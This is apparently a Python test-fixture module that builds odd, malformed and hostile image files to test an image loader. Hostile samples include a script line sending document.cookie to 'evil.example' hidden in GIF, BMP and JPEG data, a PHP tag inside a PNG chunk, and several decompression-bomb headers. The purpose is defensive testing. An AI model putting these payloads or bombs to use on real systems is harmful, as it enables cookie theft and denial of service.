"""Pictures to try ``load_image`` with, made here: odd ones that must be taken, hostile ones that must be refused.

``CASES`` is the table: how each file is made, and what has to come of it. No file is large; some say that they are.
"""

import functools
import io
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image, PngImagePlugin

SECRET = b"owner Kim, 37.5665 N"


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    """``image`` as a file; the kind HEIC is not Pillow's own."""
    file = io.BytesIO()
    if kind == "HEIC":
        frames = pillow_heif.HeifFile()
        for number, frame in enumerate([image, *options.pop("append_images", [])]):
            frames.add_from_pillow(frame).info["primary"] = number == options.get("primary_index", 0)
        options.pop("save_all", None)
        frames.save(file, **options)
    else:
        image.save(file, kind, **options)
    return file.getvalue()


def gradient(size: tuple[int, int] = (48, 32), mode: str = "RGB") -> Image.Image:
    """Red grows to the right, green downwards: which side is up can be seen."""
    across = Image.linear_gradient("L").rotate(90).resize(size)
    down = Image.linear_gradient("L").resize(size)
    return Image.merge("RGB", (across, down, Image.new("L", size, 60))).convert(mode)


def noise(mode: str, size: tuple[int, int], bits: int) -> Image.Image:
    """Pixels that no lossless codec can press together; the same on every run. ``bits``: of a pixel."""
    return Image.frombytes(mode, size, random.Random(1).randbytes(bits * size[0] * size[1] // 8))


def exif(orientation: int = 1) -> Image.Exif:
    tags = Image.Exif()
    tags[0x0112] = orientation
    tags[0x010F] = SECRET.decode()
    tags.get_ifd(0x8825)[1] = "N"
    tags.get_ifd(0x8825)[2] = (37.0, 33.0, 59.4)
    return tags


# --- files by hand: PNG ---


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IEND")


def png_of_16_bits() -> bytes:
    rows = b"".join(b"\0" + struct.pack(">6H", 0, 0, 0, 65535, 65535, 65535) for _ in range(2))
    return png(2, 2, chunk(b"IDAT", zlib.compress(rows)), depth=16)


def png_with(*chunks: bytes) -> bytes:
    plain = encoded(gradient(), "PNG")
    return plain[:33] + b"".join(chunks) + plain[33:]


def png_with_text(*, packed: bool) -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", SECRET.decode(), zip=packed)
    return encoded(gradient(), "PNG", pnginfo=text)


# --- files by hand: the others that say they are larger than they are ---


def gif_of(width: int, height: int) -> bytes:
    frame = b"," + struct.pack("<4HB", 0, 0, width, height, 0) + b"\x02\x02L\x01\0;"
    return b"GIF89a" + struct.pack("<2H3B", 1, 1, 0x80, 0, 0) + bytes(6) + frame


def jpeg_of(width: int, height: int) -> bytes:
    data = encoded(gradient((16, 16)), "JPEG")
    frame = data.index(b"\xff\xc0")
    return data[: frame + 5] + struct.pack(">2H", height, width) + data[frame + 9 :]


def bmp_of(width: int, height: int) -> bytes:
    data = encoded(gradient((16, 16)), "BMP")
    return data[:18] + struct.pack("<2i", width, height) + data[26:]


def tiff_of(width: int, height: int) -> bytes:
    data = encoded(Image.new("L", (16, 16)), "TIFF")
    tags = {256: width, 257: height}
    out = bytearray(data)
    (start,) = struct.unpack_from("<I", data, 4)
    for at in range(start + 2, start + 2 + 12 * struct.unpack_from("<H", data, start)[0], 12):
        (tag,) = struct.unpack_from("<H", data, at)
        if tag in tags:
            struct.pack_into("<2HII", out, at, tag, 4, 1, tags[tag])
    return bytes(out)


def tiff_that_turns_in_a_circle() -> bytes:
    """Its list of pages names its first page as the next one."""
    data = bytearray(encoded(gradient(), "TIFF"))
    (start,) = struct.unpack_from("<I", data, 4)
    (tags,) = struct.unpack_from("<H", data, start)
    struct.pack_into("<I", data, start + 2 + 12 * tags, start)
    return bytes(data)


def webp_of(width: int, height: int) -> bytes:
    """A moving picture on a huge canvas, whose one frame is small."""
    frame = encoded(gradient((16, 16)), "WEBP")[12:]
    canvas = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    place = bytes(6) + b"\x0f\0\0" + b"\x0f\0\0" + b"\x64\0\0" + b"\0"
    parts = [(b"VP8X", b"\x02\0\0\0" + canvas), (b"ANIM", bytes(6)), (b"ANMF", place + frame)]
    chunks = b"WEBP" + b"".join(kind + struct.pack("<I", len(body)) + body for kind, body in parts)
    return b"RIFF" + struct.pack("<I", len(chunks)) + chunks


def jpeg_of_scans(count: int) -> bytes:
    data = encoded(gradient(), "JPEG", progressive=True)[:-2]
    return data + data[data.rindex(b"\xff\xda") :] * count + b"\xff\xd9"


def avif_of(width: int, height: int) -> bytes:
    return box_patched(encoded(gradient((16, 16)), "AVIF"), width, height)


# --- files by hand: HEIC, which is a tree of boxes (ISO/IEC 14496-12 and 23008-12) ---


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body)) + kind + body


def full_box(kind: bytes, *parts: bytes, version: int = 0, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", version << 24 | flags), *parts)


def box_patched(data: bytes, width: int, height: int) -> bytes:
    """``data`` with another size in its first ``ispe`` box, where readers look before they decode."""
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">2I", width, height) + data[at + 8 :]


def heic_turned(angle: int) -> bytes:
    """A HEIC whose container says to turn the picture, as phones write it; its EXIF says so, too, as phones' does."""
    orientation = {0: 1, 90: 8, 180: 3, 270: 6}[angle]
    return encoded(gradient().rotate(-angle, expand=True), "HEIC", exif=exif(orientation).tobytes(), quality=-1)


def heic_grid(columns: int, rows: int, *, tile: int = 512) -> bytes:
    """As phones write large ones: a grid of tiles; here they are all the same one. A kilobyte, whatever its size."""
    data = encoded(Image.new("RGB", (tile, tile), "teal"), "HEIC", quality=50)
    start = data.index(b"hvcC") - 4
    codec = data[start : start + struct.unpack_from(">I", data, start)[0]]
    coded = data[data.index(b"mdat") + 4 :]
    size = struct.pack(">2I", tile * columns, tile * rows)
    grid = struct.pack(">4B", 0, 1, rows - 1, columns - 1) + size
    items = [
        full_box(b"infe", struct.pack(">HH4sB", number, 0, kind, 0), version=2, flags=hidden)
        for number, kind, hidden in ((1, b"hvc1", 1), (2, b"grid", 0))
    ]
    properties = box(
        b"ipco", codec, full_box(b"ispe", struct.pack(">2I", tile, tile)), full_box(b"ispe", size)
    )  # Numbered from 1; item 1 has the first two, item 2 the third.
    owners = full_box(b"ipma", struct.pack(">I", 2), struct.pack(">H3B", 1, 2, 0x81, 2), struct.pack(">H2B", 2, 1, 3))
    tiles = struct.pack(">HH", 2, columns * rows) + struct.pack(">H", 1) * (columns * rows)
    places = struct.pack(">HH", 0x4400, 2)
    for number, offset, length in ((1, len(grid), len(coded)), (2, 0, len(grid))):
        places += struct.pack(">4H2I", number, 1, 0, 1, offset, length)
    meta = full_box(
        b"meta",
        full_box(b"hdlr", struct.pack(">I4s13x", 0, b"pict")),
        full_box(b"pitm", struct.pack(">H", 2)),
        full_box(b"iloc", places, version=1),
        full_box(b"iinf", struct.pack(">H", 2), *items),
        full_box(b"iref", box(b"dimg", tiles)),
        box(b"iprp", properties, owners),
        box(b"idat", grid, coded),
    )
    return box(b"ftyp", b"heic", bytes(4), b"mif1heic") + meta


def heic_with_much_to_say() -> bytes:
    """Half a megabyte beside the picture, where some kilobytes belong."""
    data = encoded(gradient(), "HEIC")
    start = data.index(b"meta") - 4
    (length,) = struct.unpack_from(">I", data, start)
    more = box(b"free", bytes(500_000))
    meta = struct.pack(">I", length + len(more)) + data[start + 4 : start + length] + more
    return data[:start] + meta + data[start + length :]


# --- the table ---


@dataclass(frozen=True)
class Taken:
    """It is sent: as what, after which changes, and at which size in pixels (None: as it was made, 48 x 32)."""

    media_type: str
    changes: tuple[str, ...] = ()
    size: tuple[int, int] = (48, 32)


@dataclass(frozen=True)
class Case:
    """``make``: the file.  ``outcome``: what becomes of it, or the reason why it is refused.  ``name``: of the file."""

    make: Callable[[], bytes]
    outcome: Taken | str
    name: str = "picture.png"

    @functools.cached_property
    def data(self) -> bytes:
        return self.make()


def _of(kind: str, mode: str = "RGB", size: tuple[int, int] = (48, 32), **options: object) -> Callable[[], bytes]:
    return lambda: encoded(gradient(size, mode), kind, **options)


def _with(end: bytes, kind: str) -> Callable[[], bytes]:
    return lambda: encoded(gradient(), kind) + end


def _cut(kind: str, length: int) -> Callable[[], bytes]:
    return lambda: encoded(gradient(), kind)[:length]


def _flat(kind: str, size: tuple[int, int], mode: str = "RGB", **options: object) -> Callable[[], bytes]:
    return lambda: encoded(Image.new(mode, size), kind, **options)


def _frames(kind: str, **options: object) -> Callable[[], bytes]:
    others = [Image.new("RGB", (48, 32), colour) for colour in ("lime", "blue")]
    return lambda: encoded(Image.new("RGB", (48, 32), "red"), kind, save_all=True, append_images=others, **options)


def _bytes(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _jpeg_with(marker: int, body: bytes) -> Callable[[], bytes]:
    plain = encoded(gradient(), "JPEG")
    return lambda: plain[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + plain[2:]


def _see_through() -> Image.Image:
    image = gradient(mode="RGBA")
    image.paste((0, 0, 0, 0), (0, 0, 24, 32))
    return image


PNG, JPEG, WEBP = "image/png", "image/jpeg", "image/webp"
CLEANED = ("metadata_removed",)
ZIP = b"PK\x03\x04" + bytes(200) + SECRET
SCRIPT = b"<script>fetch('//evil.example/' + document.cookie)</script>" + SECRET
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'/>"

ODD = {
    # Names lie.
    "1 x 1": Case(_flat("PNG", (1, 1)), Taken(PNG, size=(1, 1))),
    "JPEG called .png": Case(_of("JPEG"), Taken(JPEG), "a.png"),
    "PNG called .jpg": Case(_of("PNG"), Taken(PNG), "a.jpg"),
    "GIF called .png": Case(_of("GIF"), Taken(PNG, ("converted",)), "a.png"),
    "WEBP called .jpeg": Case(_of("WEBP"), Taken(WEBP), "a.jpeg"),
    "AVIF called .heic": Case(_of("AVIF"), Taken(JPEG, ("converted",)), "a.heic"),
    "HEIC called .jpg": Case(_of("HEIC"), Taken(JPEG, ("converted",)), "a.jpg"),
    "BMP without a suffix": Case(_of("BMP"), Taken(PNG, ("converted",)), "a"),
    "TIFF called .pdf": Case(_of("TIFF"), Taken(PNG, ("converted",)), "a.pdf"),
    "PNG called .svg": Case(_of("PNG"), Taken(PNG), "a.svg"),
    # What phones write.
    "MPO": Case(
        lambda: encoded(gradient(), "MPO", save_all=True, append_images=[gradient((16, 16))], exif=exif(6)),
        Taken(JPEG, ("rotated", "metadata_removed"), (32, 48)),
        "IMG_0001.JPG",
    ),
    "MPO with a place in its second picture": Case(
        lambda: encoded(gradient(), "JPEG") + encoded(gradient((16, 16)), "JPEG", exif=exif()),
        Taken(JPEG, CLEANED),
    ),
    "JPEG of 48 megapixels": Case(
        lambda: encoded(Image.new("RGB", (8064, 6048), "teal"), "JPEG", exif=exif(6)),
        Taken(JPEG, ("rotated", "metadata_removed", "shrunk"), (3024, 4032)),
        "IMG_0002.JPG",
    ),
    "HEIC of 48 megapixels": Case(
        lambda: heic_grid(16, 12), Taken(JPEG, ("converted", "shrunk"), (4096, 3072)), "IMG_0003.HEIC"
    ),
    "HEIC turned by 90": Case(lambda: heic_turned(90), Taken(JPEG, ("converted", "metadata_removed"))),
    "HEIC turned by 180": Case(lambda: heic_turned(180), Taken(JPEG, ("converted", "metadata_removed"))),
    "HEIC turned by 270": Case(lambda: heic_turned(270), Taken(JPEG, ("converted", "metadata_removed"))),
    "HEIC with XMP": Case(_of("HEIC", xmp=SECRET), Taken(JPEG, ("converted", "metadata_removed"))),
    "HEIC with a thumbnail": Case(
        _of("HEIC", size=(64, 48), thumbnails=[16]), Taken(JPEG, ("converted", "metadata_removed"), (64, 48))
    ),
    "HEIC of several pictures": Case(_frames("HEIC"), Taken(JPEG, ("converted", "first_frame"))),
    "HEIC with transparency": Case(lambda: encoded(_see_through(), "HEIC"), Taken(PNG, ("converted",))),
    "HEIC in grey": Case(_of("HEIC", "L"), Taken(JPEG, ("converted",))),
    "HEIC of ten bits": Case(
        lambda: encoded(Image.new("I;16", (48, 32), 40_000), "HEIC"), Taken(JPEG, ("converted",))
    ),
    "HEIC under a neutral brand": Case(
        lambda: encoded(gradient(), "HEIC").replace(b"ftypheic", b"ftypmif1"), Taken(JPEG, ("converted",))
    ),
    "AVIF under a neutral brand": Case(
        lambda: encoded(gradient(), "AVIF").replace(b"ftypavif", b"ftypmif1"), Taken(JPEG, ("converted",))
    ),
    # Colours.
    "CMYK JPEG": Case(_of("JPEG", "CMYK"), Taken(JPEG, ("converted",))),
    "CMYK TIFF": Case(_of("TIFF", "CMYK"), Taken(PNG, ("converted",))),
    "16 bits": Case(png_of_16_bits, Taken(PNG, ("converted",), (2, 2))),
    "16 bits of grey": Case(_flat("PNG", (48, 32), "I;16"), Taken(PNG, ("converted",))),
    "floating point": Case(_of("TIFF", "F"), Taken(PNG, ("converted",))),
    "palette with transparency": Case(
        lambda: encoded(_see_through().quantize(16), "GIF"), Taken(PNG, ("converted",))
    ),
    "a colour that is transparent": Case(_of("PNG", transparency=(0, 0, 60)), Taken(PNG)),
    "one bit, as a fax": Case(_of("TIFF", "1", compression="group4"), Taken(PNG, ("converted",))),
    "a broken profile": Case(_of("JPEG", icc_profile=b"nonsense"), Taken(JPEG, CLEANED)),
    # Frames.
    "moving GIF": Case(_frames("GIF"), Taken(PNG, ("converted", "first_frame"))),
    "moving PNG": Case(_frames("PNG"), Taken(PNG, ("first_frame", "metadata_removed"))),
    "moving WEBP": Case(_frames("WEBP"), Taken(WEBP, ("first_frame", "metadata_removed"))),
    "moving AVIF": Case(_frames("AVIF"), Taken(JPEG, ("converted", "first_frame"))),
    "TIFF of several pages": Case(_frames("TIFF"), Taken(PNG, ("converted", "first_frame"))),
    # Metadata.
    "jpeg comment": Case(_of("JPEG", comment=SECRET), Taken(JPEG, CLEANED)),
    "jpeg exif": Case(_of("JPEG", exif=exif()), Taken(JPEG, CLEANED)),
    "jpeg xmp": Case(_of("JPEG", xmp=SECRET), Taken(JPEG, CLEANED)),
    "jpeg iptc": Case(_jpeg_with(0xED, SECRET), Taken(JPEG, CLEANED)),
    "jpeg dpi thumbnail": Case(
        lambda: (plain := encoded(gradient(), "JPEG"))[:4]
        + struct.pack(">H", 16 + 3)
        + plain[6:18]
        + b"\x01\x01abc"
        + plain[20:],
        Taken(JPEG, CLEANED),
    ),
    "png text": Case(lambda: png_with_text(packed=False), Taken(PNG, CLEANED)),
    "png packed text": Case(lambda: png_with_text(packed=True), Taken(PNG, CLEANED)),
    "png exif": Case(_of("PNG", exif=exif()), Taken(PNG, CLEANED)),
    "png dpi": Case(_of("PNG", dpi=(72, 72)), Taken(PNG, CLEANED)),
    "png private chunk": Case(lambda: png_with(chunk(b"teSt", SECRET)), Taken(PNG, CLEANED)),
    "webp exif": Case(_of("WEBP", exif=exif()), Taken(WEBP, CLEANED)),
    "webp xmp": Case(_of("WEBP", xmp=SECRET), Taken(WEBP, CLEANED)),
    "gif comment": Case(_of("GIF", comment=SECRET), Taken(PNG, ("converted", "metadata_removed"))),
    "avif exif": Case(_of("AVIF", exif=exif()), Taken(JPEG, ("converted", "metadata_removed"))),
    "tiff artist": Case(_of("TIFF", artist=SECRET.decode()), Taken(PNG, ("converted",))),
    # Two files in one.
    "jpeg behind the end": Case(_with(SECRET, "JPEG"), Taken(JPEG, CLEANED)),
    "png behind the end": Case(_with(SECRET, "PNG"), Taken(PNG, CLEANED)),
    "webp behind the end": Case(_with(SECRET, "WEBP"), Taken(WEBP, CLEANED)),
    "JPEG and ZIP": Case(_with(ZIP, "JPEG"), Taken(JPEG, CLEANED)),
    "PNG and PDF": Case(_with(b"%PDF-1.7\n" + SECRET, "PNG"), Taken(PNG, CLEANED)),
    "GIF and script": Case(_with(SCRIPT, "GIF"), Taken(PNG, ("converted",))),
    "BMP and script": Case(_with(SCRIPT, "BMP"), Taken(PNG, ("converted",))),
    "HEIC and ZIP": Case(_with(ZIP, "HEIC"), Taken(JPEG, ("converted",))),
    "JPEG with a page inside": Case(_jpeg_with(0xFE, b"--><html>" + SCRIPT), Taken(JPEG, CLEANED)),
    "PNG with a program inside": Case(
        lambda: png_with(chunk(b"tEXt", b"k\0<?php " + SECRET)), Taken(PNG, CLEANED)
    ),
    # Sizes.
    "a strip": Case(_flat("PNG", (20_000, 10)), Taken(PNG, ("shrunk",), (8192, 4))),
    "a thin strip": Case(_flat("PNG", (20_000, 1)), Taken(PNG, ("shrunk",), (8192, 1))),
    "a pole": Case(_flat("JPEG", (10, 20_000)), Taken(JPEG, ("shrunk",), (4, 8192))),
    "a large sheet, one bit": Case(_flat("PNG", (8000, 8000), "1"), Taken(PNG, ("shrunk",), (4000, 4000))),
    "a large sheet, 16 bits": Case(
        _flat("PNG", (7000, 5000), "I;16"), Taken(PNG, ("converted", "shrunk"), (3500, 2500))
    ),
    "WEBP as large as can be": Case(
        _flat("WEBP", (3830, 3830), "RGBA", lossless=True, method=0), Taken(WEBP, size=(3830, 3830))
    ),
    "JPEG in ten scans": Case(_of("JPEG", progressive=True), Taken(JPEG)),
    "TIFF in a circle": Case(tiff_that_turns_in_a_circle, Taken(PNG, ("converted",))),
}  # fmt: skip

REFUSED = {
    "nothing": Case(_bytes(b""), "empty"),
    "words": Case(_bytes(b"words"), "not_a_picture"),
    "blanks": Case(_bytes(b" \n" * 500), "not_a_picture"),
    "zeros": Case(_bytes(bytes(1000)), "not_a_picture"),
    "ZIP": Case(_bytes(ZIP), "not_a_picture"),
    "film": Case(_bytes(box(b"ftyp", b"isom", bytes(4), b"isommp42") + bytes(100)), "not_a_picture", "a.heic"),
    "icon": Case(_of("ICO"), "not_a_picture"),
    "JPEG 2000": Case(_of("JPEG2000"), "not_a_picture"),
    "XML": Case(_bytes(b"<?xml version='1.0'?><note/>"), "not_a_picture"),
    "SVG": Case(_bytes(SVG), "svg", "a.png"),
    "SVG by hand": Case(_bytes(b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- by hand -->\n<svg/>"), "svg"),
    "SVG with a type": Case(_bytes(b"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' ''>" + SVG), "svg"),
    "EPS": Case(_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n"), "eps", "a.png"),
    "EPS with a preview": Case(_bytes(b"\xc5\xd0\xd3\xc6" + bytes(26) + b"%!PS-Adobe-3.0 EPSF-3.0\n"), "eps", "a.jpg"),
    "PDF": Case(_bytes(b"%PDF-1.7\n"), "pdf", "a.png"),
    "page": Case(_bytes(b"\n<!DOCTYPE html><html><svg/></html>"), "html", "a.png"),
    "page without a type": Case(_bytes(b"<html><body>"), "html", "a.jpg"),
    # Cut short, or damaged.
    "PNG's name alone": Case(_bytes(b"\x89PNG\r\n\x1a\n"), "truncated"),
    "JPEG's name alone": Case(_bytes(b"\xff\xd8\xff\xe0"), "truncated"),
    "GIF's name alone": Case(_bytes(b"GIF89a"), "truncated"),
    "HEIC's name alone": Case(_bytes(box(b"ftyp", b"heic", bytes(4), b"mif1heic") + bytes(100)), "truncated"),
    "half a JPEG": Case(_cut("JPEG", 400), "truncated"),
    "half a PNG": Case(_cut("PNG", 100), "truncated"),
    "half a WEBP": Case(_cut("WEBP", 60), "truncated"),
    "nearly an AVIF": Case(_cut("AVIF", -40), "truncated"),
    "nearly a HEIC": Case(_cut("HEIC", -40), "truncated"),
    "half a HEIC": Case(_cut("HEIC", 200), "truncated"),
    "half a BMP": Case(_cut("BMP", 200), "truncated"),
    "half a TIFF": Case(_cut("TIFF", 200), "truncated"),
    "PNG without pixels": Case(_bytes(png(8, 8, chunk(b"IDAT", b"not zlib"))), "truncated"),
    "PNG without width": Case(_bytes(png(0, 8, chunk(b"IDAT", zlib.compress(b"")))), "truncated"),
    # In a codec that phones do not use.
    "HEIC in VVC": Case(lambda: encoded(gradient(), "HEIC").replace(b"hvc1", b"vvc1"), "heic"),
    "HEIC in JPEG 2000": Case(lambda: encoded(gradient(), "HEIC").replace(b"hvc1", b"j2k1"), "heic"),
    "HEIC with much to say": Case(heic_with_much_to_say, "heic"),
}  # fmt: skip

BOMBS = {
    "png": Case(_bytes(png(65_000, 65_000, chunk(b"IDAT", zlib.compress(bytes(100_000))))), "too_many_pixels"),
    "png, the largest": Case(_bytes(png(2**31 - 1, 2**31 - 1, chunk(b"IDAT", b""))), "too_many_pixels"),
    "png, just over": Case(_bytes(png(8193, 8192, chunk(b"IDAT", zlib.compress(bytes(1000))))), "too_many_pixels"),
    "png, between warning and error": Case(_bytes(png(12_000, 12_000, chunk(b"IDAT", b""))), "too_many_pixels"),
    "png, packed text": Case(
        lambda: png(8, 8, chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(100_000_000))), chunk(b"IDAT", b"")),
        "truncated",
    ),
    "gif": Case(_bytes(gif_of(65_000, 65_000)), "too_many_pixels"),
    "jpeg": Case(lambda: jpeg_of(65_000, 65_000), "too_many_pixels"),
    "jpeg of many scans": Case(lambda: jpeg_of_scans(1000), "truncated"),
    "bmp": Case(lambda: bmp_of(60_000, 60_000), "too_many_pixels"),
    "tiff": Case(lambda: tiff_of(60_000, 60_000), "too_many_pixels"),
    "webp": Case(lambda: webp_of(16_383, 16_383), "too_many_pixels"),
    "webp of one colour": Case(
        _flat("WEBP", (16_383, 1024), lossless=True, method=0), "too_many_pixels"
    ),  # 88 bytes, for which the decoder takes 300 MB
    "avif": Case(lambda: avif_of(60_000, 60_000), "truncated"),  # Refused by its library.
    "heic": Case(lambda: heic_grid(20, 20), "too_many_pixels"),
    "heic, as wide as can be said": Case(
        lambda: box_patched(encoded(gradient(), "HEIC"), 2**31, 2**31), "too_many_pixels"
    ),
    "heic, larger inside than outside": Case(
        lambda: box_patched(encoded(Image.new("RGB", (1024, 1024)), "HEIC", quality=10), 64, 64), "too_many_pixels"
    ),
    "heic, with tiles beyond its edge": Case(
        lambda: heic_grid(30, 30).replace(struct.pack(">2I", 15_360, 15_360), struct.pack(">2I", 64, 48)),
        "too_many_pixels",
    ),
    "heic, of more tiles than can be meant": Case(lambda: heic_grid(64, 64), "too_many_pixels"),
}  # fmt: skip

CASES = ODD | REFUSED | {f"bomb: {name}": case for name, case in BOMBS.items()}
